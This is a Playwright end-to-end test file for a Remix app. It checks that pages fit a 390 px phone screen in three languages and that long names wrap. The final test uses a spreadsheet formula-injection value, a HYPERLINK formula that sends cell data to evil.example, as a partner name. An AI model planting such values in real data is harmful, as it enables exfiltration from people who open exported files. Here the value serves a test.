import fs from "node:fs";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { PASSWORDS, stateFile } from "./support";

/**
 * Issue 13 item 16: no page scrolls sideways on a 390 px phone, except the chart's own scroll
 * area, and no link or button cuts a word of its label in two. The pages are every route file in app/routes, so a new route is visited without anyone
 * listing it here; its parameters are filled with demo records' ids, found the way a reader
 * finds them: by following links from the lists.
 */
const PHONE = { width: 390, height: 844 };

type Route = { file: string; pattern: string[] };

/** The app's pages: route files that render one (a default export), as URL patterns. */
function pageRoutes(): Route[] {
  const dir = path.resolve("app/routes");
  return fs
    .readdirSync(dir)
    .filter((file) => /\.tsx?$/.test(file) && /^export default/m.test(fs.readFileSync(path.join(dir, file), "utf8")))
    .map((file) => ({
      file,
      pattern: file
        .replace(/\.tsx?$/, "")
        .split(".")
        // Remix flat routes: a leading "_" is a pathless layout, a trailing one only un-nests.
        .filter((segment) => segment !== "_index" && !segment.startsWith("_"))
        .map((segment) => segment.replace(/_$/, "")),
    }));
}

/** The first id in a link on a page whose path matches, e.g. /partners/(\d+). */
async function idFrom(page: Page, url: string, link: RegExp): Promise<string> {
  await page.goto(url);
  const hrefs = await page.locator("a[href]").evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""));
  const found = hrefs.map((href) => link.exec(href)?.[1]).find(Boolean);
  if (!found) throw new Error(`no link like ${link} on ${url}`);
  return found;
}

/**
 * A demo record's id for each route parameter (the demo partner's, and records found from its
 * page: the fullest ones, and there whatever other tests add meanwhile); a new parameter fails
 * the test until it is added here.
 */
async function sampleParams(page: Page, demoPartnerName: string): Promise<Record<string, string>> {
  await page.goto("/partners");
  const demoPartner = await page.getByRole("link", { name: demoPartnerName, exact: true }).first().getAttribute("href");
  const partnerId = /^\/partners\/(\d+)$/.exec(demoPartner ?? "")?.[1];
  if (!partnerId) throw new Error("the demo partner is not in the partners list");
  const meetingId = await idFrom(page, `/partners/${partnerId}`, /^\/meetings\/(\d+)$/);
  // The demo data has no document: one is attached to the meeting, as the editor attaches one.
  const attached = await page.request.post("/documents", {
    multipart: {
      intent: "attach",
      parent: "meeting",
      parentId: meetingId,
      file: { name: "phone-width.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF\n") },
    },
    maxRedirects: 0,
  });
  expect(attached.status()).toBe(302);
  const documentId = await idFrom(page, `/meetings/${meetingId}`, /^\/documents\/(\d+)$/);
  return {
    partnerId,
    meetingId,
    personId: await idFrom(page, "/people", /^\/people\/(\d+)$/),
    organisationId: await idFrom(page, "/organisations", /^\/organisations\/(\d+)$/),
    initiativeId: await idFrom(page, `/partners/${partnerId}`, /^\/initiatives\/(\d+)$/),
    relationId: await idFrom(page, `/partners/${partnerId}`, /^\/relations\/(\d+)\//),
    stepId: await idFrom(page, `/partners/${partnerId}`, /^\/relations\/\d+\/steps\/(\d+)\//),
    delegationId: await idFrom(page, `/partners/${partnerId}`, /^\/delegations\/(\d+)/),
    recordType: "meeting",
    recordId: meetingId,
    documentId,
    // A record's documents, all of them (documents.of.$parent.$parentId).
    parent: "meeting",
    parentId: meetingId,
    // An invitation that does not exist: its page says so, and must fit too.
    token: "no-such-invitation",
  };
}

function urlOf(route: Route, params: Record<string, string>, adminParams: Record<string, string>): string {
  const segments = route.pattern.map((segment) => {
    if (segment === "$") return "no-such-page";
    if (!segment.startsWith("$")) return segment;
    const value = params[segment.slice(1)] ?? adminParams[segment.slice(1)];
    if (value === undefined) throw new Error(`${route.file}: give e2e/phone-width.spec.ts a demo value for ${segment}`);
    return value;
  });
  return `/${segments.join("/")}`;
}

/** How far the page itself scrolls sideways, and which elements stick out past its width. */
async function overflow(page: Page) {
  return await page.evaluate(() => {
    const width = document.documentElement.clientWidth;
    // Inside a box that scrolls or clips on its own (the chart's), sticking out is that box's affair.
    const contained = (el: Element) => {
      for (let up = el.parentElement; up && up !== document.body; up = up.parentElement) {
        if (getComputedStyle(up).overflowX !== "visible") return true;
      }
      return false;
    };
    const sticksOut = (el: Element) => el.getBoundingClientRect().right > width + 1 && !contained(el);
    // The innermost ones: their ancestors only stick out because of them.
    const wide = [...document.body.querySelectorAll("*")]
      .filter((el) => sticksOut(el) && ![...el.children].some(sticksOut))
      .slice(0, 5)
      .map((el) => `${el.tagName.toLowerCase()}.${[...el.classList].join(".")}`);
    return { scrollWidth: document.documentElement.scrollWidth, wide };
  });
}

/**
 * Links and buttons whose label is one word short enough to fit the phone (an interface word,
 * not a pasted address), yet is cut across two lines.
 */
async function cutWords(page: Page) {
  return await page.evaluate(() =>
    [...document.querySelectorAll(":where(header, main) :where(a, button)")]
      .map((el) => {
        const label = el.textContent?.trim() ?? "";
        if (!label || label.length > 20 || /\s/.test(label)) return null;
        const range = document.createRange();
        range.selectNodeContents(el);
        const lines = new Set([...range.getClientRects()].filter((r) => r.width > 0).map((r) => Math.round(r.top)));
        return lines.size > 1 ? label : null;
      })
      .filter(Boolean)
      .slice(0, 5),
  );
}

// Each language in its own test, run side by side: the same page is longer in Russian than in
// Kazakh or English (the briefing's initiatives and the accounts table overflowed in Russian only).
const LANGUAGES = [
  { locale: "kk-KZ", demoPartner: "Хэйлунцзян провинциясы" },
  { locale: "ru-RU", demoPartner: "Провинция Хэйлунцзян" },
  { locale: "en-GB", demoPartner: "Heilongjiang Province" },
];

for (const { locale, demoPartner } of LANGUAGES)
  test.describe(`at 390 px, in ${locale}`, () => {
    test.use({ viewport: PHONE, locale });

    test("no page scrolls sideways, and every page hydrates", async ({ page, browser }) => {
      test.setTimeout(180_000);
      const routes = pageRoutes();
      expect(routes.length).toBeGreaterThan(40);
      const params = await sampleParams(page, demoPartner);
      const admin = await browser.newContext({ storageState: stateFile("admin"), viewport: PHONE, locale });
      const adminPage = await admin.newPage();
      const adminParams = { userId: await idFrom(adminPage, "/admin/users", /^\/admin\/users\/(\d+)$/) };
      const failures: string[] = [];
      // A page whose browser code renders other text than the server did (a value read from a
      // .server module, which the browser's bundle does not have) logs React's hydration errors.
      const hydration: string[] = [];
      let current = "";
      for (const on of [page, adminPage]) {
        on.on("console", (message) => {
          if (message.type() === "error" && !message.text().startsWith("Failed to load resource"))
            hydration.push(`${current}: ${message.text().slice(0, 120)}`);
        });
        on.on("pageerror", (error) => hydration.push(`${current}: ${error.message.slice(0, 120)}`));
      }
      for (const route of routes) {
        const url = urlOf(route, params, adminParams);
        current = `${url} (${route.file})`;
        const on = route.pattern[0] === "admin" ? adminPage : page;
        await on.goto(url, { waitUntil: "networkidle" });
        const { scrollWidth, wide } = await overflow(on);
        if (scrollWidth > PHONE.width)
          failures.push(`${url} (${route.file}): ${scrollWidth} px wide; past the edge: ${wide.join(", ")}`);
        const cut = await cutWords(on);
        if (cut.length) failures.push(`${url} (${route.file}): a word cut across lines in ${cut.join(", ")}`);
      }
      await admin.close();
      expect(failures).toEqual([]);
      expect(hydration).toEqual([]);
    });
  });

test.describe("at 390 px", () => {
  test.use({ viewport: PHONE, locale: "kk-KZ" });

  test("names typed with no place to break wrap in the lists, the record pages, search, the tokens and the header", async ({
    page,
    browser,
  }) => {
    const stamp = Date.now().toString(36);
    const long = (letter: string) => `${letter.repeat(70)}${stamp}`;
    const made = await page.request.post("/partners/new", {
      form: { kind: "city", countryCode: "CN", nameKk: long("Ә"), nameRu: long("Ж"), nameEn: long("W") },
      maxRedirects: 0,
    });
    expect(made.status()).toBe(302);
    const partner = made.headers().location;
    const person = await page.request.post("/people/new", {
      form: { nameKk: long("Ө"), nameEn: long("P") },
      maxRedirects: 0,
    });
    expect(person.status()).toBe(302);
    const token = await page.request.post("/account/api", {
      form: { intent: "create", name: long("т").slice(0, 100) },
    });
    expect(token.status()).toBe(200);
    for (const url of [
      partner,
      person.headers().location,
      `/search?q=${encodeURIComponent(long("Ә"))}`,
      "/account/api",
    ]) {
      await page.goto(url);
      const { scrollWidth, wide } = await overflow(page);
      expect(scrollWidth, `${url}: ${wide.join(", ")}`).toBeLessThanOrEqual(PHONE.width);
    }
    // An account's name is in the header of every page its owner reads.
    const admin = await browser.newContext({ storageState: stateFile("admin"), locale: "en-GB" });
    const adminPage = await admin.newPage();
    await adminPage.goto("/admin/users", { waitUntil: "networkidle" });
    await adminPage.getByLabel("Email").fill(`long-${stamp}@e2e.kezdesu`);
    await adminPage.getByLabel("Name").fill(long("Я"));
    await adminPage.getByRole("button", { name: "Make the invitation" }).click();
    const link = (await adminPage.getByLabel("Invitation link").textContent())!.trim();
    const invitee = await browser.newContext({
      storageState: { cookies: [], origins: [] },
      viewport: PHONE,
      locale: "en-GB",
    });
    const inviteePage = await invitee.newPage();
    await inviteePage.goto(link);
    await inviteePage.getByLabel("New password", { exact: true }).fill(PASSWORDS.viewer);
    await inviteePage.getByLabel("New password again").fill(PASSWORDS.viewer);
    await inviteePage.getByRole("button", { name: "Start using Kezdesu" }).click();
    await expect(inviteePage.getByRole("link", { name: long("Я") })).toBeVisible();
    const { scrollWidth, wide } = await overflow(inviteePage);
    expect(scrollWidth, `the header: ${wide.join(", ")}`).toBeLessThanOrEqual(PHONE.width);
    await invitee.close();
    // And in the administrator's lists of accounts: the accounts, and the filters by person.
    await adminPage.setViewportSize(PHONE);
    for (const url of ["/admin/users", "/admin/activity", "/admin/security"]) {
      await adminPage.goto(url);
      const { scrollWidth, wide } = await overflow(adminPage);
      expect(scrollWidth, `${url}: ${wide.join(", ")}`).toBeLessThanOrEqual(PHONE.width);
    }
    await admin.close();

    // The token goes, as the page lets its owner revoke it: an account holds a few.
    await page
      .getByRole("button", { name: new RegExp(`т{20}.*`) })
      .first()
      .click();
    await expect(page.getByRole("button", { name: new RegExp(`т{20}`) })).toHaveCount(0);
  });

  test("a heading with no place to break (a pasted address) wraps instead of widening the page", async ({ page }) => {
    const name = `=HYPERLINK("http://evil.example/?x="&A1,"Үрімжі")${Date.now()}`;
    const made = await page.request.post("/partners/new", {
      form: { kind: "city", countryCode: "CN", nameEn: name },
      maxRedirects: 0,
    });
    expect(made.status()).toBe(302);
    const partner = made.headers().location;
    for (const url of [partner, `${partner}/briefing`]) {
      await page.goto(url);
      await expect(page.getByRole("heading", { level: 1 })).toContainText("evil.example");
      const { scrollWidth, wide } = await overflow(page);
      expect(scrollWidth, `${url}: ${wide.join(", ")}`).toBeLessThanOrEqual(PHONE.width);
    }
  });
});
